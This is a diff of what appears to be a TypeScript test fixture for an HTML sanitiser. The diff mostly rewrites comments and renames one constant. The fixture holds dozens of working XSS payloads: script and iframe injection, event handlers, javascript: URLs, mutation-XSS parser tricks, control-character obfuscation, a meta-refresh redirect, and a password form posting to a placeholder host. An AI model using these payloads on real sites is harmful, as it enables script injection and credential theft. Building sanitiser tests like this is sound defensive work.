@@ -1,16 +1,16 @@
-/** What a text does where it runs: it tells the test, which gives every page this function. */
+/** Payload that reports its execution through a function that the test adds to every page. */
 const RUN = "__executed(1)";
 
-/** Nobody is there; a request that goes there has left the installation. */
+/** An unreachable host; a request to it has left the installation. */
 const ELSEWHERE = "https://elsewhere.test";
 
 const ENCODED = [...RUN].map((letter) => `&#${letter.charCodeAt(0)};`).join("");
 const DOCUMENT = `<script>parent.${RUN};${RUN}</script>`;
 const BROKEN = `<img src=1 onerror=${RUN}>`;
 
-/** Each would run, look, lead or send elsewhere in a page that draws it as it is. */
+/** Each would execute, restyle the page, navigate or send data elsewhere if it were rendered unsanitised. */
 export const HOSTILE_HTML: readonly string[] = [
-  // Scripts, and what carries documents of its own.
+  // Scripts and embedded documents.
   `<script>${RUN}</script>`,
   `<script src="${ELSEWHERE}/a.js"></script>`,
   `<script type=module>import "${ELSEWHERE}/b.js"; ${RUN}</script>`,
@@ -21,7 +21,7 @@ export const HOSTILE_HTML: readonly string[] = [
   `<iframe srcdoc="${DOCUMENT}"></iframe>`,
   `<object data="data:text/html,${DOCUMENT}"></object>`,
   `<embed src="javascript:${RUN}">`,
-  // Handlers.
+  // Event handlers.
   BROKEN,
   `<IMG SRC=1 OnErRoR = '${RUN}'>`,
   `<img/src=1/onerror=${RUN}>`,
@@ -35,7 +35,7 @@ export const HOSTILE_HTML: readonly string[] = [
   `<input autofocus onfocus=${RUN}><select autofocus onfocus=${RUN}></select>`,
   `<marquee onstart=${RUN}>A word</marquee>`,
   `<a href="https://forum.test" onpointerover=${RUN} ping="${ELSEWHERE}/e">A link</a>`,
-  // Addresses.
+  // URLs.
   `<a href="javascript:${RUN}">A link</a>`,
   `<a href=" &#1;JaVa&#10;ScRiPt&colon;${RUN}">A link</a>`,
   `<a href="data:text/html,${DOCUMENT}" target=_self>A link</a>`,
@@ -51,7 +51,7 @@ export const HOSTILE_HTML: readonly string[] = [
   `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${RUN}'/></svg>#x"></use></svg>`,
   `<svg><foreignObject>${BROKEN}</foreignObject></svg>`,
   `<math href="javascript:${RUN}"><mtext>A link</mtext></math>`,
-  // What a second parser reads in another way than the first.
+  // Markup that a second parser reads differently from the first.
   `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;"></table></mtext></math>`,
   `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>"></style></svg>`,
   `<svg><style><!--</style></svg>${BROKEN}-->`,
@@ -62,7 +62,7 @@ export const HOSTILE_HTML: readonly string[] = [
   `<select><template><style></select>${BROKEN}</style></template></select>`,
   `<!--><img src=1 onerror=${RUN}>--><!--!>${BROKEN}<![CDATA[><img src=1 onerror=${RUN}>]]>`,
   `<table><tbody><svg><td><desc><td><title>${BROKEN}</title></td></table>`,
-  // Styles, and what the page is told of itself.
+  // Styles and document metadata.
   `<style>@import "${ELSEWHERE}/h.css"; body { background: url(${ELSEWHERE}/i.png) }</style>`,
   `<p style="background: url(${ELSEWHERE}/j.png); position: fixed; inset: 0">A word</p>`,
   `<link rel=stylesheet href="${ELSEWHERE}/k.css"><link rel=prefetch href="${ELSEWHERE}/l">`,
@@ -72,30 +72,32 @@ export const HOSTILE_HTML: readonly string[] = [
   `<form action="${ELSEWHERE}/o"><input name=password><button>Log in</button></form>`,
   `<form id=outer><form id=inner action="javascript:${RUN}"><button formaction="javascript:${RUN}">Send</button></form></form>`,
   `<isindex action="javascript:${RUN}"><button form=outer formaction="${ELSEWHERE}/p">Send</button>`,
-  // Names that stand in for those of the page.
+  // Ids and names that shadow those of the page.
   `<form id=root name=document><input name=attributes><input name=parentNode></form>`,
   `<img id=localStorage name=getElementById><a id=foyer><a id=foyer name=session href="cid:x">`,
   `<p id=__proto__ class=toString slot=constructor is=x-element data-x=1 aria-label="Another name">A word</p>`,
-  // Letters that are none.
+  // Control characters inside tag names and attributes.
   `<img src=1 onerror&#0;=${RUN}><scr&#0;ipt>${RUN}</scr&#0;ipt>`,
   `<img \u0001 src=1 \u000Bonerror=${RUN}><\uFEFFscript>${RUN}</\uFEFFscript>`,
   `<a href="java\u00ADscript:${RUN}">\u202Eknil A\u202C</a>&lt;script&gt;${RUN}&lt;/script&gt;`,
 ];
 
-/** The same, and they take with them what stands behind them in the same text. */
+/** The same payloads; unclosed, they swallow the text behind them. */
 export const SWALLOWING_HTML: readonly string[] = [
   `<form><math><mtext></form><form><mglyph><style></math><img src=1 onerror=${RUN}></style></form>`,
   `<noscript><p title="</noscript><img src=1 onerror=${RUN}>"></noscript>`,
 ];
 
-/** Leads away by itself, which no policy forbids: the portal alone must hold it off. */
+/** Redirects by itself, which no content security policy blocks, so only the sanitiser can remove it. */
 export const LEADING_AWAY = `<meta http-equiv=refresh content="0;url=${ELSEWHERE}/q">`;
 
-/** Ends whatever a text before it left open, so that the next is read from the beginning. */
+/**
+ * Closes everything that an earlier text left open, so that the parser starts the next one in a clean state.
+ */
 export const CLOSING = `'">--></style></script></title></textarea></noscript></noembed></xmp></template></select></svg></math></table></form></a></p>`;
 
-/** For what is drawn as words, such as names. */
-export const HOSTILE_WORDS = `${BROKEN}"'><script>${RUN}</script>{{${RUN}}}`;
+/** For plain texts such as names. */
+export const HOSTILE_TEXT = `${BROKEN}"'><script>${RUN}</script>{{${RUN}}}`;
 
-/** For what may become a link. */
+/** For texts that may become a link. */
 export const HOSTILE_ADDRESS = `javascript:${RUN}//https://forum.test`;
